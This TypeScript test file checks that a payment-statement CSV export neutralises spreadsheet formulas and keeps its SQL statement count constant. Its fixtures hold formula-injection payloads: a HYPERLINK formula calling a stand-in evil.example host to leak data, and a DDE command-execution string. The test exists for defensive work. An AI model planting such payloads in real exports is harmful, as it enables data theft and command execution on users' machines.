// The payment statement through HTTP, with names chosen to attack a spreadsheet: every cell that
// could start a formula arrives neutralised with a leading apostrophe (issue 10 §4).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildPrivacyWorld, type PrivacyWorld } from '../support/privacy-world.js';
import { previousMonth } from '../support/seed.js';

const CHILD = '=HYPERLINK("http://evil.example/?leak","Ақбота")';
const PROVIDER = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const PROGRAM = '-2+3 Шахматы';

let world: PrivacyWorld;
beforeAll(async () => {
  world = await buildPrivacyWorld({ name: CHILD, providerName: PROVIDER, programTitle: PROGRAM });
}, 120_000);
afterAll(() => world?.close());

/** Splits CSV text into rows of cells (quoted cells may hold commas and doubled quotes). */
function parseCsv(text: string): string[][] {
  return text
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .filter(Boolean)
    .map((line) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => m[1]!).slice(0, -1).map((c) => (c.startsWith('"') ? c.slice(1, -1).replaceAll('""', '"') : c)));
}

describe('GET /exports/payments/<id>.csv', () => {
  it('neutralises formulas in names typed by parents and providers', async () => {
    const res = await world.api.post('', { token: world.tokens.providerOne }, 'GET', `/exports/payments/${world.paymentId}.csv`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const text = (res.body as { raw?: string }).raw ?? '';
    const [header, columns, line] = parseCsv(text);
    expect(header!.slice(2, 4)).toEqual(['provider', `'${PROVIDER}`]);
    expect(columns![2]).toBe('child');
    expect(line!.slice(1, 5)).toEqual([world.enrollments.one, `'${CHILD}`, `'${PROGRAM}`, 'EDUCATIONAL']);
    // Nothing else starts a formula either.
    const risky = parseCsv(text).flat().filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(risky).toEqual([]);
  });
});

describe('a statement of many lines', () => {
  it('is read in as many SQL statements as a statement of one line', async () => {
    const { api, seed } = world;
    // A city of this test's own, in the world's database: its settlement holds exactly these lines.
    const city = await seed.city();
    const month = previousMonth();
    const operator = await seed.operator(city);
    await api.data(
      `mutation($c: String!, $w: Int!) { updateCityRules(input: { city: $c, confirmationWindowDays: $w, rates: [{ direction: EDUCATIONAL, tiynPerHour: 120000 }] }) { rules { version } } }`,
      { c: city, w: month.windowDays },
      { token: operator },
    );
    const RECORD = `mutation($input: RecordAttendanceInput!) { recordAttendance(input: $input) { attendances { id } } }`;
    const CONFIRM = `mutation($ids: [ID!]!) { confirmAttendance(input: { attendanceIds: $ids }) { attendances { id } } }`;
    /** A provider whose month pays `children` lines, one confirmed 1.5-hour session each. */
    const providerPaidFor = async (children: number) => {
      const provider = await seed.provider({ city, kind: 'PRIVATE' }).approved();
      const program = (await seed.program(provider, { minAge: 6, maxAge: 13, seats: 10 })).id;
      for (let i = 0; i < children; i++) {
        const child = await seed.enrolled(program, city, month.day(1));
        const { recordAttendance } = await api.data(RECORD, { input: { programId: program, date: month.day(20), childIds: [child.childId], hours: 1.5 } }, { token: provider.token });
        await api.data(CONFIRM, { ids: [recordAttendance.attendances[0].id] }, { token: child.family.token });
      }
      return provider;
    };
    const small = await providerPaidFor(1);
    const large = await providerPaidFor(6);
    const { settlePeriod } = await api.data(
      `mutation($c: String!, $p: String!) { settlePeriod(input: { city: $c, period: $p }) { payments { id provider { id } } } }`,
      { c: city, p: month.period },
      { token: operator },
    );
    const paymentOf = (provider: { id: string }) => settlePeriod.payments.find((p: any) => p.provider.id === provider.id).id as string;

    const exported = async (provider: { id: string; token: string }) => {
      api.statements = 0;
      const res = await api.post('', { token: provider.token }, 'GET', `/exports/payments/${paymentOf(provider)}.csv`);
      expect(res.status).toBe(200);
      const rows = ((res.body as { raw?: string }).raw ?? '').split('\r\n').filter(Boolean);
      return { lines: rows.length - 2, statements: api.statements };
    };
    const one = await exported(small);
    const six = await exported(large);
    expect(one.lines).toBe(1);
    expect(six.lines).toBe(6);
    // The payment's scope and row, provider and lines, enrollments, programs + vouchers + sessions,
    // children, and whether they are the provider's own (the name policy): each once per statement.
    expect(one.statements).toBe(9);
    expect(six.statements).toBe(9);
  });
});
